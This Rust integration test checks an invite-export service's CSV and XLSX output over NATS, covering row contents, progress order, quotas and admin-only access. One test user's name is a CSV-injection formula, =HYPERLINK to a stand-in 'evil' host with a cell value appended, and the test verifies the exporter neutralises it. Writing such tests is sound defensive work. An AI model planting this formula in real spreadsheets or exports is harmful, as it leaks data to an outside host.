//! Exports over a real NATS: the file (read back with calamine for xlsx) holds a header and
//! exactly the admin query's rows as of the request; progress comes in the documented order and
//! the last message stays for a late subscriber.

use calamine::{Reader, Xlsx};
use futures::StreamExt;
use invitebus_events::subject::Subjects;
use invitebus_events::Reply;
use invitebus_exporter::file::{cells, csv_field, COLUMNS};
use invitebus_exporter::{ExporterConfig, ExporterService};
use invitebus_testkit::Bus;
use invitebus_views::{ViewService, ViewsConfig};
use serde_json::{json, Value};
use std::time::Duration;
use tokio::io::AsyncReadExt;

struct Stack {
    bus: Bus,
    _views: ViewService,
    _exporter: ExporterService,
}

impl std::ops::Deref for Stack {
    type Target = Bus;
    fn deref(&self) -> &Bus {
        &self.bus
    }
}

async fn start() -> Stack {
    let bus = Bus::start_with(|c| c.exports_enabled = true).await;
    let mut v = ViewsConfig::new(bus.path("views.db"));
    v.subjects = bus.subjects.clone();
    v.feed.keys = Some(bus.keys.clone());
    let views = ViewService::start(bus.client.clone(), v).await.unwrap();
    let mut e = ExporterConfig::new(bus.path("exporter.db"));
    e.subjects = bus.subjects.clone();
    e.feed.keys = Some(bus.keys.clone());
    let exporter = ExporterService::start(bus.client.clone(), e).await.unwrap();
    Stack {
        bus,
        _views: views,
        _exporter: exporter,
    }
}

impl Stack {
    async fn request(&self, subject: String, body: Value) -> Reply {
        self.bus.request(subject, &body).await
    }
    async fn query(&self, name: &str, body: Value) -> Value {
        self.bus.q(name, body).await
    }
    /// Returns the position of the last command.
    async fn fill(&self, n: usize) -> u64 {
        self.ok(
            "UpsertUser",
            json!({"actor":"ref","user_id":"ref","name":"Referrer","phone":"111"}),
        )
        .await;
        self.ok(
            "RegisterResource",
            json!({"actor":"ref","resource_id":"expo","kind":"exhibition","name":"Expo, \"2027\""}),
        )
        .await;
        for i in 0..n {
            let u = format!("v{i}");
            self.ok(
                "UpsertUser",
                json!({"actor":u,"user_id":u,"name":match i {
                    // A name a spreadsheet would run as a formula (CSV injection).
                    0 => "=HYPERLINK(\"http://evil/?\"&A1,\"click\")".to_string(),
                    _ => format!("Visitor {i}"),
                },"phone":format!("9{i:03}")}),
            )
            .await;
            self.ok(
                "CreateInvite",
                json!({"actor":"ref","resource_id":"expo","invitee":u,"invite_id":format!("x{i}")}),
            )
            .await;
        }
        self.ok(
            "UpsertUser",
            json!({"actor":"ref","user_id":"ref","name":"Referrer","phone":"111","area":"East"}),
        )
        .await
        .position()
        .unwrap()
    }
    /// Waits for the export to end; returns its `export` view.
    async fn finished(&self, export_id: &str) -> Value {
        for _ in 0..200 {
            let body = json!({"actor":"root","roles":["admin"],"export_id":export_id});
            // not_found until the views have applied the request.
            if let Ok(e) = self
                .request(Subjects::default().query("export"), body)
                .await
                .into_result()
            {
                if e["status"] == "success" || e["status"] == "failed" {
                    return e;
                }
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("export {export_id} did not finish");
    }
    async fn file(&self, name: &str) -> Vec<u8> {
        let js = async_nats::jetstream::new(self.client.clone());
        let store = js.get_object_store("invites-exports").await.unwrap();
        let mut object = store.get(name).await.unwrap();
        let mut bytes = Vec::new();
        object.read_to_end(&mut bytes).await.unwrap();
        bytes
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_and_xlsx_hold_the_admin_rows_as_of_the_request_with_progress_in_order() {
    let s = start().await;
    let filled = s.fill(12).await;
    let mut progress = s.client.subscribe("invites.export.*.progress").await.unwrap();
    let filters = json!({"resource_id":"expo"});
    let expected = s
        .query(
            "admin",
            json!({"actor":"root","roles":["admin"],"resource_id":"expo","per_page":100,"min_position":filled}),
        )
        .await;
    let r = s
        .ok(
            "RequestExport",
            json!({"actor":"root","roles":["admin"],"filters":filters,"format":"csv"}),
        )
        .await;
    let csv_id = r.data.unwrap()["export_id"].as_str().unwrap().to_string();
    // Written after the request: not in its export.
    s.ok(
        "CreateInvite",
        json!({"actor":"ref","resource_id":"expo","invitee":"late","invite_id":"late1"}),
    )
    .await;
    let second = s
        .request(
            Subjects::default().command("RequestExport"),
            json!({"actor":"root","roles":["admin"]}),
        )
        .await;
    assert_eq!(
        second.error.unwrap().code,
        invitebus_events::ErrorCode::ExportInProgress
    );
    let done = s.finished(&csv_id).await;
    assert_eq!(done["status"], "success");
    assert_eq!(done["count"], 12);

    let mut statuses = Vec::new();
    while let Ok(Some(msg)) = tokio::time::timeout(Duration::from_millis(500), progress.next()).await {
        let p: Value = serde_json::from_slice(&msg.payload).unwrap();
        if p["export_id"] == csv_id.as_str() {
            statuses.push(p["status"].as_str().unwrap().to_string());
        }
    }
    statuses.dedup();
    assert_eq!(statuses.first().map(String::as_str), Some("starting"));
    assert_eq!(statuses.get(1).map(String::as_str), Some("start"));
    assert_eq!(&statuses[statuses.len() - 2..], ["before_upload", "success"]);
    assert!(statuses[2..statuses.len() - 2].iter().all(|s| s == "writing_file"));

    // A late subscriber still gets the last progress message.
    let js = async_nats::jetstream::new(s.client.clone());
    let stream = js.get_stream("INVITES_EXPORTS").await.unwrap();
    let last = stream
        .get_last_raw_message_by_subject(&format!("invites.export.{csv_id}.progress"))
        .await
        .unwrap();
    let last: Value = serde_json::from_slice(&last.payload).unwrap();
    assert_eq!(last["status"], "success");
    assert_eq!(last["progress"], 100);
    assert_eq!(last["file_url"], done["file_url"]);

    let csv = String::from_utf8(s.file(&format!("{csv_id}.csv")).await).unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines[0], COLUMNS.iter().map(|(h, _)| *h).collect::<Vec<_>>().join(","));
    assert_eq!(lines.len(), 13, "a header and the 12 rows of the request's moment");
    let models = expected["models"].as_array().unwrap();
    assert_eq!(models.len(), 12);
    for (line, model) in lines[1..].iter().zip(models) {
        let quoted: Vec<String> = cells(model).iter().map(|c| csv_field(c)).collect();
        assert_eq!(*line, quoted.join(","));
    }
    assert!(
        csv.contains("\"'=HYPERLINK("),
        "a formula-looking name is neutralized with a leading quote"
    );
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"));

    // xlsx, read back with calamine: the same rows (now 13, the late invite included).
    let r = s
        .ok(
            "RequestExport",
            json!({"actor":"root","roles":["admin"],"filters":filters}),
        )
        .await;
    let xlsx_id = r.data.unwrap()["export_id"].as_str().unwrap().to_string();
    assert_eq!(s.finished(&xlsx_id).await["count"], 13);
    let bytes = s.file(&format!("{xlsx_id}.xlsx")).await;
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    let rows: Vec<Vec<String>> = sheet
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    assert_eq!(rows[0], COLUMNS.iter().map(|(h, _)| h.to_string()).collect::<Vec<_>>());
    let now = s
        .query(
            "admin",
            json!({"actor":"root","roles":["admin"],"resource_id":"expo","per_page":100}),
        )
        .await;
    let expected: Vec<Vec<String>> = now["models"].as_array().unwrap().iter().map(cells).collect();
    assert_eq!(rows[1..].to_vec(), expected);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fifty_exports_a_day_then_quota_exceeded_and_non_admins_are_forbidden() {
    let s = start().await;
    s.fill(1).await;
    let request = json!({"actor":"root","roles":["admin"],"format":"csv"});
    for _ in 0..50 {
        let r = s.ok("RequestExport", request.clone()).await;
        let id = r.data.unwrap()["export_id"].as_str().unwrap().to_string();
        assert_eq!(s.finished(&id).await["status"], "success");
    }
    let over = s.request(Subjects::default().command("RequestExport"), request).await;
    assert_eq!(
        over.error.unwrap().code,
        invitebus_events::ErrorCode::ExportQuotaExceeded
    );
    let other = s
        .request(Subjects::default().command("RequestExport"), json!({"actor":"fang"}))
        .await;
    assert_eq!(other.error.unwrap().code, invitebus_events::ErrorCode::Forbidden);
}
